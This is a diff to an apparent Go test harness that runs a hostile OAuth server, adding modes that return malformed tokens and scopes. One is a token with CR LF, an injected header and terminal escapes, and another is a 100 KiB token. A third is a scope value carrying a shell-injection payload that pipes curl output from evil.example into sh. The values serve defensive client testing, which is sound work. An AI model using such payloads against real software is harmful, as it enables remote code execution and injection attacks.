@@ -86,7 +86,10 @@ func hostileEnv(ts *testscript.TestScript) []string {
 // device-escape, device-interval, device-expires,
 // device-html, refresh-garbage (refresh answers HTML), refresh-noaccess
 // (refresh answers JSON without access_token), refresh-hang (refresh never
-// answers; $WORK/NAME.refreshing appears when it starts), echo-401,
+// answers; $WORK/NAME.refreshing appears when it starts), token-escape,
+// token-huge (the token endpoint issues a token with CR LF and escapes, or
+// one of 100 KiB), scope-escape (a granted scope with escapes and a shell
+// command), echo-401,
 // echo-ctype, echo-header, echo-json (the API's /v1/me echoes the token
 // back: in a 401's error_description, a content type, a response header,
 // its JSON), ok.
@@ -312,6 +315,18 @@ func (h *hostileHandler) issuer(w http.ResponseWriter, r *http.Request) {
 				<-r.Context().Done()
 				return
 			}
+		}
+		switch h.mode {
+		case "token-escape":
+			hostileJSON(w, 200, map[string]any{"access_token": "hostile-at\r\nX-Injected: 1\x1b[2J", "token_type": "Bearer", "expires_in": 3600})
+			return
+		case "token-huge":
+			hostileJSON(w, 200, map[string]any{"access_token": strings.Repeat("a", 100<<10), "token_type": "Bearer", "expires_in": 3600})
+			return
+		case "scope-escape":
+			hostileJSON(w, 200, map[string]any{"access_token": "hostile-at-1", "refresh_token": "hostile-rt-1", "token_type": "Bearer", "expires_in": 3600,
+				"scope": "documents.read evil\x1b]0;pwned\x07 docs'; curl -s https://evil.example/x | sh; echo '"})
+			return
 		}
 		hostileJSON(w, 200, map[string]any{"access_token": "hostile-at-1", "refresh_token": "hostile-rt-1", "token_type": "Bearer", "expires_in": 3600})
 	case "/v1/me":
